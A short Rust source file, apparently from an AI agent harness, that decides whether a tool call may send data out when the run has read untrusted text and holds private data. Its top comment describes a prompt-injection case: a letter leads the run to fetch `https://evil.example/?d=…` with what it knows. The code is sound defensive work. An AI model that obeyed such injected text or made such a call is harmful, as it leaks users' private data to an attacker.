//! What a look would carry away. Its arguments leave the house as those of a write do: a letter that has a run look up
//! `https://evil.example/?d=…` with what the run knows has sent it.

use munshi_types::Egress;

use super::request::Proposal;

/// What is to be done about a call whose arguments may hold what the run has read: it has read other people's text, knows
/// what is not for everybody, and not all of what it would be given are the person's own words.
pub(crate) fn decide(proposal: &Proposal) -> Egress {
    let Some(tool) = &proposal.tool else { return Egress::Allow };
    let taint = &proposal.taint;
    let is_led = !taint.is_clean() && taint.holds_private;
    if !is_led || !tool.sends_data_out() || !taint.may_leak_into(&proposal.arguments, tool) {
        return Egress::Allow;
    }
    tool.spec.egress
}
